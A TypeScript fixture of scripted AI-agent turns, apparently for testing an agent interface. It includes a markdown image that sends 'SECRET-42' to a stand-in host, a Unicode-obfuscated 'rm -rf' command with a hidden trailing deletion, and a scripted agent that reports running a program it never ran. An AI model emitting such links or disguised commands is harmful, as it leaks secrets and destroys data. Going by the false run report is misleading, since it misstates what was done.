export interface ScriptTurn {
  text?: string;
  reasoning?: string;
  deltaMs?: number;
  toolCalls?: { name: string; arguments: Record<string, unknown> }[];
  error?: { status: number };
}

const step = (title: string, status: string) => ({ title, status });
const plan = (...states: string[]) => ({
  name: "plan.update",
  arguments: {
    steps: ["Look at what is there", "Write the program", "Run it", "Report"].map((title, at) => step(title, states[at] ?? "pending")),
  },
});

const PROGRAM = `def primes(count):
    found = []
    candidate = 2
    while len(found) < count:
        if all(candidate % p for p in found):
            found.append(candidate)
        candidate += 1
    return found


print(*primes(20))
`;

export const demoScript: ScriptTurn[] = [
  {
    reasoning:
      "The person wants a small program. I should look at the workspace first, then write the file, run it, and report. Each change asks for approval in this mode.",
    text: "I will look around first, then write the program and run it.",
    toolCalls: [plan("in_progress"), { name: "fs.list", arguments: { path: "." } }],
  },
  { toolCalls: [plan("done", "in_progress"), { name: "fs.write", arguments: { path: "primes.py", content: PROGRAM } }] },
  {
    toolCalls: [
      plan("done", "done", "in_progress"),
      { name: "shell.exec", arguments: { command: "seq 24 && sleep 1 # python3 primes.py" } },
    ],
  },
  {
    toolCalls: [
      plan("done", "done", "done", "in_progress"),
      { name: "ask_user", arguments: { question: "Shall I also add a test for it?", choices: ["Yes, please", "No, that is enough"] } },
    ],
  },
  {
    text: `Done. Here is what I did:

1. Looked at the workspace.
2. Wrote **primes.py**, which finds primes by trial division:

\`\`\`python
${PROGRAM}\`\`\`

3. Ran it. The first ones are \`2 3 5 7 11\`.

| n | prime |
|---|---|
| 1 | 2 |
| 2 | 3 |
| 3 | 5 |

> Trial division is slow for large counts; a sieve would be the next step. See [the article](https://en.wikipedia.org/wiki/Sieve_of_Eratosthenes).

![a picture](https://collect.example.net/p.png?d=SECRET-42)
`,
  },
];

const ATTACK = `rm -rf ./build\u{200B}\u{202E}txt.cod\u{2066} --no\u{00AD}keep \u{E0072}\u{E006D}${"\n".repeat(500)}; rm x`;

/** What a message without a script gets, chosen by a word in it. */
export function scriptFor(text: string): ScriptTurn[] {
  const words = text.toLowerCase();
  if (words.includes("fail")) return [{ text: "I will try that", error: { status: 503 } }];
  if (words.includes("attack"))
    return [{ toolCalls: [{ name: "shell.exec", arguments: { command: ATTACK, cwd: "." } }] }, { text: "So be it." }];
  if (words.includes("review")) return [{ toolCalls: [{ name: "review", arguments: {} }] }, { text: "Thank you, going on." }];
  if (words.includes("edit"))
    return [
      {
        toolCalls: [
          { name: "fs.edit", arguments: { path: "src/main.py", oldText: "print('helo')", newText: "print('hello')" } },
          { name: "shell.exec", arguments: { command: "false" } },
        ],
      },
      { text: "The edit is made; the check **failed**." },
    ];
  if (words.includes("long")) return [{ text: "Here is a long answer. ".repeat(200), deltaMs: 30 }];
  return demoScript;
}
